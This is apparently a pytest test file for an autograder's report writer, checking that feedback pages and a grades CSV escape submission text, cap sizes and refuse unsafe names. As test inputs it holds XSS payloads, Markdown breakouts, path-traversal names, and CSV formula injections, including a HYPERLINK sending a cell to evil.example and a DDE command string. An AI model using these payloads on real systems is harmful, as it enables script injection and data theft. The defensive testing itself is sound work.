"""Per-student results.json / feedback.md / feedback.html, and grades.csv: right content,
capped size, and nothing from a submission becomes markup, script or a formula."""
import csv
import html
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from autograder.config import Exercise
from autograder.gradebook import Gradebook
from autograder.outcomes import Outcome
from autograder.report import (
    MAX_FEEDBACK_CHARS,
    MAX_LINE_CHARS,
    _render_html,
    cap_text,
    csv_cell,
    fix_first,
    write_grades_csv,
    write_student_outputs,
)
from autograder.score import ExerciseResult

RELU = Exercise("ch2.activations.relu", 1.0, 10.0, ("torch.relu",))
BACKWARD = Exercise("ch2.activations.relu_backward", 2.0, 10.0, ())
LINEAR = Exercise("ch2.linear.forward", 3.0, 10.0, ())

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(document.cookie)>'


def sample_results(message="", hint="") -> list[ExerciseResult]:
    return [
        ExerciseResult(RELU, 1.0, "passed", 3, 0),
        ExerciseResult(BACKWARD, 1.0, "partial", 1, 1,
                       message or "relu_backward: values differ at [0, 3]: got 1.0, want 0.0",
                       hint or "At x == 0 the ReLU gradient is 0 in torch (use x > 0)."),
        ExerciseResult(LINEAR, 0.0, "policy", 0, 1, message or "uses torch.nn.functional.linear"),
    ]


INFO = {"status": "graded", "seconds": 12.34, "problems": ["refused file: conftest.py"]}


def outputs(out: Path, student: str) -> dict[str, str]:
    return {name: (out / student / name).read_text(encoding="utf-8")
            for name in ("results.json", "feedback.md", "feedback.html")}


def test_results_json_has_gradescopes_shape(tmp_path):
    write_student_outputs(tmp_path, "alice", sample_results(), INFO)
    data = json.loads((tmp_path / "alice" / "results.json").read_text())
    assert isinstance(data["score"], (int, float)) and data["score"] == 2.0
    assert data["max_score"] == 6.0
    assert data.get("output_format", "text") == "text"
    assert "refused file: conftest.py" in data["output"]          # the problems, at the top
    assert data["output"].index("conftest.py") < data["output"].index("exercises passed")
    assert len(data["tests"]) == 3
    for test, ex in zip(data["tests"], (RELU, BACKWARD, LINEAR)):
        assert set(test) >= {"name", "score", "max_score", "status", "output"}
        assert test["name"].startswith(ex.id)
        assert isinstance(test["score"], (int, float)) and isinstance(test["max_score"], (int, float))
        assert 0 <= test["score"] <= test["max_score"] == ex.points
        assert test["status"] in ("passed", "failed")
        assert isinstance(test["output"], str)
    assert data["score"] == sum(t["score"] for t in data["tests"])
    assert "Known mistake: At x == 0" in data["tests"][1]["output"]


def test_feedback_names_points_status_failure_and_known_mistake(tmp_path):
    write_student_outputs(tmp_path, "alice", sample_results(), INFO)
    files = outputs(tmp_path, "alice")
    for name in ("feedback.md", "feedback.html"):
        text = html.unescape(files[name]).replace("\\", "")   # undo HTML / Markdown escapes
        assert "alice" in text and "2 / 6" in text
        for ex, points, status in ((RELU, "1/1", "passed"), (BACKWARD, "1/2", "partial"),
                                   (LINEAR, "0/3", "policy")):
            assert ex.id in text and Outcome(status).text in text
            assert points in text.replace(" / ", "/")
        assert "values differ at [0, 3]" in text
        assert "use x > 0" in text and "Known mistake" in text
        assert "uses torch.nn.functional.linear" in text
        assert text.index("refused file: conftest.py") < text.index("Exercises")  # problems above the table
        assert "12.3 s" in text


def _lost(exercise: Exercise, score: float, status: str, message: str = "", hint: str = "") -> ExerciseResult:
    return ExerciseResult(exercise, score, Outcome(status), 0, 1, message, hint)


def test_what_to_fix_first_is_what_lost_the_most():
    """Issue 13, item 10: the exercises that lost the most points, most first, each with its
    one-line reason and hint; the exercises of a module that does not import are one entry."""
    losses = [Exercise(f"ch2.losses.{n}", p, 10.0, ()) for n, p in (("nll", 6), ("ce", 8))]
    cant_import = "ch2/losses.py does not import: SyntaxError: expected ':' (line 31)"
    results = [ExerciseResult(RELU, 1.0, Outcome.PASSED, 3, 0),
               _lost(BACKWARD, 1.5, "partial", "values differ\nsecond line", "use x > 0"),
               _lost(LINEAR, 0.0, "failed", "got nan"),
               *(_lost(ex, 0.0, "import", cant_import) for ex in losses)]
    entries = fix_first(results)
    assert [(e.what, e.lost) for e in entries] == [("ch2/losses.py", 14), (LINEAR.id, 3), (BACKWARD.id, 0.5)]
    assert entries[0].reason == cant_import
    assert (entries[2].reason, entries[2].hint) == ("values differ", "use x > 0")   # its first line
    many = [_lost(Exercise(f"ch2.m.e{i}", 1 + i % 3, 10.0, ()), 0.0, "failed", f"e{i}") for i in range(12)]
    assert [e.lost for e in fix_first(many)] == [3, 3, 3]                 # a few, the costliest
    assert [e.what for e in fix_first(many, at_most=5)][-2:] == ["ch2.m.e11", "ch2.m.e1"]   # ties: in order
    assert fix_first(results[:1]) == []


def test_feedback_opens_with_what_to_fix_first(tmp_path):
    results = sample_results()
    write_student_outputs(tmp_path, "alice", results, {**INFO, "problems": ["refused x"] * 20})
    for name, heading in (("feedback.html", "<h2>Exercises"), ("feedback.md", "## Exercises")):
        text = outputs(tmp_path, "alice")[name]
        top = text[:text.index(heading)]
        fix = top.index("What to fix first")
        assert fix < top.index("refused x") and fix < top.index("Grading time")   # before anything else
        assert top.index(LINEAR.id) < top.index(BACKWARD.id)        # 3 points lost before 1
        assert "uses torch.nn.functional.linear" in top and "use x &gt; 0" in top
    write_student_outputs(tmp_path, "bob", results[:1], INFO)
    assert all("What to fix first" not in text for text in outputs(tmp_path, "bob").values())


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = set(), set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs.update(name for name, _ in attrs)


OUR_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "strong", "br",
            "div", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "pre", "code"}
OUR_ATTRS = {"lang", "charset", "http-equiv", "content", "name", "class"}


@pytest.mark.parametrize("hostile", [SCRIPT, IMG, "</pre></td></tr></table><iframe src=//x>",
                                     "&lt;script&gt; <!-- --> <![CDATA[ x ]]>"])
def test_html_escapes_everything_from_the_submission(tmp_path, hostile):
    results = sample_results(message=f"got {hostile}\nline 2 {hostile}", hint=hostile)
    write_student_outputs(tmp_path, "mallory", results,
                          {"status": hostile, "problems": [f"refused {hostile}"]})
    page = outputs(tmp_path, "mallory")["feedback.html"]
    parser = _Tags()
    parser.feed(page)
    assert parser.tags <= OUR_TAGS and parser.attrs <= OUR_ATTRS
    assert hostile not in page                                  # only its escaped form is there
    assert html.escape(hostile) in page
    assert "script-src" not in page and "default-src 'none'" in page   # scripts off, belt and braces
    # a hostile name is escaped by the renderer too, if it ever got past the name check
    page = _render_html(SCRIPT + IMG, results, {"status": "", "seconds": None, "problems": []})
    parser = _Tags()
    parser.feed(page)
    assert parser.tags <= OUR_TAGS and parser.attrs <= OUR_ATTRS
    assert SCRIPT not in page and IMG not in page


def test_markdown_keeps_submission_text_inert(tmp_path):
    breakout = "````\n# owned\n</pre>\n<script>alert(1)</script>\n````"
    results = sample_results(message=breakout, hint=f"[click](javascript:alert(1)) {SCRIPT} *x*")
    write_student_outputs(tmp_path, "mallory", results, {"problems": [f"- {IMG}"]})
    md = outputs(tmp_path, "mallory")["feedback.md"]
    lines = md.splitlines()
    start = lines.index("# owned") - 2                  # the message sits in a <pre> block ...
    assert lines[start:start + 7] == ["<pre>", "````", "# owned", "&lt;/pre&gt;",
                                      "&lt;script&gt;alert(1)&lt;/script&gt;", "````", "</pre>"]
    assert "<script" not in md and "<img" not in md    # ... HTML-escaped, as everywhere: no tag
    assert "\\[click\\](javascript:alert(1))" in md and "&lt;script&gt;" in md
    assert '- \\- "&gt;&lt;img src' in md          # a problem cannot open a nested list or a tag


def test_every_file_is_capped_on_huge_messages(tmp_path):
    megabyte_line = "A" * 1_000_000
    megabyte_lines = ("B" * 99 + "\n") * 10_000
    exercises = [Exercise(f"ch2.mod.ex{i}", 1.0, 10.0, ()) for i in range(30)]
    results = [ExerciseResult(ex, 0.0, "failed", 0, 1,
                              megabyte_line if i % 2 else megabyte_lines, megabyte_line)
               for i, ex in enumerate(exercises)]
    info = {"status": "graded", "problems": [f"refused {'C' * 10_000}"] * 1000}
    write_student_outputs(tmp_path, "flood", results, info)
    for name, text in outputs(tmp_path, "flood").items():
        assert len(text) <= MAX_FEEDBACK_CHARS, name
        assert "[truncated]" in text, name
        assert "ch2.mod.ex29" in text, name                 # every exercise still listed
        longest = max(map(len, html.unescape(text).splitlines()))
        assert name == "results.json" or longest <= MAX_LINE_CHARS + 200, (name, longest)
    data = json.loads((tmp_path / "flood" / "results.json").read_text())
    assert len(data["tests"]) == 30


def test_a_huge_grading_toml_still_fits_the_feedback_pages(tmp_path):
    exercises = [Exercise(f"ch{i % 6 + 1}.module_{i}.exercise_with_a_long_name_{i}", 1.0, 10.0, ())
                 for i in range(300)]
    results = [ExerciseResult(ex, 0.5, "partial", 1, 1, "m" * 5000, "h" * 5000) for ex in exercises]
    write_student_outputs(tmp_path, "s", results, INFO)
    files = outputs(tmp_path, "s")
    for name in ("feedback.md", "feedback.html"):
        assert len(files[name]) <= MAX_FEEDBACK_CHARS
        assert "150 / 300" in files[name]                     # the total counts every exercise
        assert "more exercises not shown here" in files[name]
    data = json.loads(files["results.json"])
    assert len(data["tests"]) == 300 and data["score"] == 150.0   # never drops a test


def test_cap_text_marks_every_cut():
    assert cap_text("short\nmessage") == "short\nmessage"
    line = cap_text("x" * 10_000)
    assert line == "x" * MAX_LINE_CHARS + " [truncated]"
    many = cap_text("y\n" * 100_000, limit=1000)
    assert len(many) <= 1000 and many.endswith("[truncated]")
    assert cap_text("a\x1b[31mred\x1b[0m\r\nb\x00\u202ec") == "ared\nbc"   # no escapes or overrides
    assert cap_text("\ud800ok") == "?ok"


@pytest.mark.parametrize("name", ["../evil", "a/b", "", ".", "..", "x" * 300, SCRIPT,
                                  "/etc", "name\n", "ünï"])
def test_unsafe_student_names_are_refused(tmp_path, name):
    out = tmp_path / "out"
    with pytest.raises(ValueError):
        write_student_outputs(out, name, sample_results(), {})
    assert not any(p.is_file() for p in tmp_path.rglob("*"))


def test_a_symlinked_student_folder_is_not_written_through(tmp_path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "alice").symlink_to(elsewhere)
    with pytest.raises(ValueError):
        write_student_outputs(out, "alice", sample_results(), {})
    assert list(elsewhere.iterdir()) == []


def test_rewriting_replaces_files_and_leaves_no_temporaries(tmp_path):
    write_student_outputs(tmp_path, "alice", sample_results(), INFO)
    write_student_outputs(tmp_path, "alice", sample_results()[:1], {})
    assert sorted(p.name for p in (tmp_path / "alice").iterdir()) == \
        ["feedback.html", "feedback.md", "results.json"]
    assert json.loads((tmp_path / "alice" / "results.json").read_text())["max_score"] == 1.0


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1+2", "@SUM(A1:A9)",
                 "\tcmd", "\rcmd", "=cmd|' /C calc'!A0"]


def read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_grades_csv_rows_columns_and_totals(tmp_path):
    scores = {"bob": {RELU.id: 1.0, BACKWARD.id: 0.5}, "alice": {RELU.id: 1, BACKWARD.id: 2.0,
                                                                  LINEAR.id: 2.25}}
    write_grades_csv(tmp_path / "grades.csv", [RELU.id, BACKWARD.id, LINEAR.id], scores)
    assert read_csv(tmp_path / "grades.csv") == [
        ["student", RELU.id, BACKWARD.id, LINEAR.id, "ch2 total", "total"],
        ["alice", "1", "2", "2.25", "5.25", "5.25"],
        ["bob", "1", "0.5", "", "1.5", "1.5"],          # a missing exercise: an empty cell
    ]
    write_grades_csv(tmp_path / "grades.csv", [RELU.id], scores, totals={"alice": 9, "bob": 8.5})
    assert [row[-1] for row in read_csv(tmp_path / "grades.csv")] == ["total", "9", "8.5"]


def test_grades_csv_has_a_total_per_chapter(tmp_path):
    """Issue 13, item 10: a column per chapter's total (for a course that grades chapters
    separately), beside the overall total; a chapter with none of its exercises is empty."""
    attention = "ch6.attention.causal_mask"
    scores = {"alice": {RELU.id: 1, BACKWARD.id: 1.5, attention: 3}, "bob": {RELU.id: 0.5}}
    write_grades_csv(tmp_path / "grades.csv", [RELU.id, BACKWARD.id, attention], scores)
    rows = [dict(zip(read_csv(tmp_path / "grades.csv")[0], row)) for row in read_csv(tmp_path / "grades.csv")[1:]]
    assert [(r["student"], r["ch2 total"], r["ch6 total"], r["total"]) for r in rows] == [
        ("alice", "2.5", "3", "5.5"), ("bob", "0.5", "", "0.5")]


def test_grades_csv_cannot_hold_a_formula(tmp_path):
    scores = {name: {RELU.id: 1.0, "=1+1": 0.5} for name in HOSTILE_NAMES + ["alice"]}
    write_grades_csv(tmp_path / "grades.csv", [RELU.id, "=1+1"], scores)
    rows = read_csv(tmp_path / "grades.csv")
    assert rows[0] == ["student", RELU.id, "'=1+1", "ch2 total", "'=1+1 total", "total"]
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + n.replace("\r", "\n") for n in HOSTILE_NAMES} | {"alice"}   # CR: cleaned
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for row in rows[1:]:
        assert [float(c) for c in row[1:]] == [1.0, 0.5, 1.0, 0.5, 1.5]   # numbers stay numbers


def test_csv_cell_neutralises_strings_but_not_numbers():
    assert csv_cell(-1.5) == -1.5 and csv_cell(2.0) == 2 and csv_cell(0.333333333) == 0.3333
    assert csv_cell("-1.5") == "'-1.5" and csv_cell("a=b") == "a=b" and csv_cell(None) == ""


def test_gradebook_to_exports_round_trip(tmp_path):
    with Gradebook(tmp_path / "gradebook.sqlite") as gb:
        gb.record("alice", "d1", sample_results(), INFO)
        gb.record("-bob", "d2", sample_results()[:2], {"status": "import error"})
        rows = gb.rows()
        write_grades_csv(tmp_path / "grades.csv", [RELU.id, BACKWARD.id, LINEAR.id], gb.scores(),
                         {r["student"]: r["total"] for r in rows})
        results, info = gb.results("alice", {e.id: e for e in (RELU, BACKWARD, LINEAR)})
    write_student_outputs(tmp_path / "out", "alice", results, info)
    assert read_csv(tmp_path / "grades.csv")[1:] == [["'-bob", "1", "1", "", "2", "2"],
                                                     ["alice", "1", "1", "0", "2", "2"]]
    assert json.loads((tmp_path / "out" / "alice" / "results.json").read_text())["score"] == 2.0
